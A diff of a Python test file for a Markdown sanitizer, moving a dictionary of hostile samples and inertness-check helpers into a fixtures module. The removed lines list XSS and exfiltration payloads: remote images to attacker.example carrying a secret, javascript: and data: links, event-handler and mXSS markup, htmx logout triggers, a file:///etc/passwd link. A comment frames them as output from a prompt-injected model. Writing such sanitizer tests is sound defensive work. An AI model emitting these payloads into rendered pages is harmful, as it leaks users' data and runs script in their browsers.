@@ -1,13 +1,10 @@
 from __future__ import annotations
 
 import re
-from html.parser import HTMLParser
-from urllib.parse import urlsplit
 
 import pytest
 
 from core.markdown import (
-    ALLOWED_TAGS,
     _same_site,
     inert_links,
     link_targets,
@@ -15,6 +12,12 @@ from core.markdown import (
     render_markdown,
 )
 from tests.factories import NotebookFactory, NoteFactory
+from tests.fixtures.markdown import (
+    HOSTILE_SAMPLES,
+    SCHEME_RELATIVE,
+    assert_inert,
+    elements,
+)
 
 HOSTILE = """# Title
 
@@ -72,103 +75,6 @@ def test_note_page_shows_hostile_body_inert(alice_client, alice):
     assert "<img src=x" not in body
     assert not re.search(r'<a[^>]*href="\s*javascript:', body)
     assert "&lt;script&gt;" in body  # shown as text, not dropped silently
-
-
-# --- Hostile samples: what a note's author or a model (prompt-injected by a PDF) could write.
-# Each must render without a remote image, an event handler, a style, an htmx attribute or a
-# link that is not http(s), mailto or relative. tests/chat/test_hostile_output.py and the
-# browser test send the same samples through the chat.
-HOSTILE_SAMPLES = {
-    "image": "![x](https://attacker.example/?q=secret)",
-    "image-reference": "![x][t]\n\n[t]: https://attacker.example/ref.png",
-    "image-protocol-relative": "![x](//attacker.example/p.png)",
-    "image-data": "![x](data:image/png;base64,iVBORw0KGgo=)",
-    "image-in-link": "[![x](https://attacker.example/i.png)](https://ok.example/)",
-    "image-in-image": "![a ![b](https://attacker.example/b.png)](https://attacker.example/a.png)",
-    "raw-img": '<img src="https://attacker.example/raw.png">',
-    "raw-img-upper": "<IMG SRC=https://attacker.example/u.png onerror=alert(1)>",
-    "raw-img-in-table": "| a |\n|---|\n| <img src=https://attacker.example/t.png> |",
-    "entity-img": (
-        "&lt;img src=https://attacker.example/e.png&gt; &#60;img src=x onerror=alert(1)&#62;"
-    ),
-    "svg": "<svg onload=alert(1)><image href=https://attacker.example/s.png /></svg>",
-    "picture": '<picture><source srcset="https://attacker.example/p.png"></picture>',
-    "style": "<style>@import url(https://attacker.example/c.css)</style>",
-    "link-stylesheet": '<link rel="stylesheet" href="https://attacker.example/c.css">',
-    "iframe": '<iframe src="https://attacker.example/"></iframe>',
-    "object": '<object data="https://attacker.example/o.swf"></object><embed src="x.swf">',
-    "base": '<base href="https://attacker.example/">',
-    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://attacker.example/">',
-    "form": '<form action="https://attacker.example/"><button>Go</button></form>',
-    "htmx": '<a hx-get="/accounts/logout/" hx-trigger="load">x</a><div hx-on:click="alert(1)">',
-    "details": "<details open ontoggle=alert(1)>x</details>",
-    "mxss": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    "javascript": "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](  javascript:alert(1) )",
-    "javascript-entities": "[a](&#106;avascript:alert(1)) [b](java&#x09;script:alert(1))",
-    "javascript-autolink": "<javascript:alert(1)>",
-    "javascript-reference": "[x]: javascript:alert(1)\n\n[y][x]",
-    "javascript-raw": '<a href="javascript:alert(1)">raw</a>',
-    "data-link": "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "vbscript-link": "[a](vbscript:msgbox(1))",
-    "file-link": "[a](file:///etc/passwd) [b](ftp://attacker.example/)",
-    "attribute-break": (
-        '[x](<https://ok.example/"onmouseover="alert(1)>) [y](https://ok.example "t\\" x")'
-    ),
-    "script": "<script>alert(1)</script>",
-    "protocol-relative-link": '[p](//evil.example/x) <a href="//evil.example/">raw</a>',
-    "protocol-relative-spellings": (
-        "[a](///evil.example/) [b](<//evil.example/x>) [c](/\\evil.example/) "
-        "[d](\\\\evil.example/) [e](</\t/evil.example>) ![f](//evil.example/f.png)"
-    ),
-}
-# Tags a sanitized answer may hold: the Markdown allowlist plus the citation chips.
-CHIP_TAGS = {"span", "q"}
-FORBIDDEN_ATTRIBUTES = re.compile(r"^(on|hx-|data-hx|style$|src$|srcset$|background$|formaction$)")
-
-
-class _Elements(HTMLParser):
-    def __init__(self) -> None:
-        super().__init__(convert_charrefs=True)
-        self.elements: list[tuple[str, dict[str, str]]] = []
-
-    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        self.elements.append((tag, {name: value or "" for name, value in attrs}))
-
-    handle_startendtag = handle_starttag
-
-
-def elements(html: str) -> list[tuple[str, dict[str, str]]]:
-    """Every element of `html` with its attributes as a browser reads them (entities decoded)."""
-    parser = _Elements()
-    parser.feed(html)
-    parser.close()
-    return parser.elements
-
-
-# A relative URL a browser reads as another site's: "//host", however spelled (it drops
-# leading spaces and controls, and tabs anywhere, and takes a backslash for a slash).
-SCHEME_RELATIVE = re.compile(r"^[\x00-\x20]*[/\\][\t\n\r]*[/\\]")
-
-
-def safe_href(href: str) -> bool:
-    """http(s) and mailto links, and links to this site (relative, never scheme-relative)."""
-    parts = urlsplit(href.strip())
-    scheme_ok = parts.scheme.lower() in ("", "http", "https", "mailto")
-    return scheme_ok and not SCHEME_RELATIVE.match(href)
-
-
-def assert_inert(html: str, tags: set[str] | frozenset[str] = frozenset(ALLOWED_TAGS)) -> None:
-    """`html` (sanitized output) loads nothing and runs nothing: only allowed tags, no image,
-    no event handler, style or htmx attribute, and only http(s), mailto or relative links."""
-    for tag, attrs in elements(html):
-        assert tag in tags, f"<{tag}> in {html!r}"
-        for name, value in attrs.items():
-            assert not FORBIDDEN_ATTRIBUTES.match(name), f"{name}= on <{tag}> in {html!r}"
-            if name == "href":
-                assert safe_href(value), f"href={value!r} in {html!r}"
-    lowered = html.lower()
-    for needle in ("<img", "<svg", "<script", "<style", "<iframe", "<object", "<base", "<link"):
-        assert needle not in lowered, f"{needle} in {html!r}"
 
 
 @pytest.mark.parametrize("name", sorted(HOSTILE_SAMPLES))
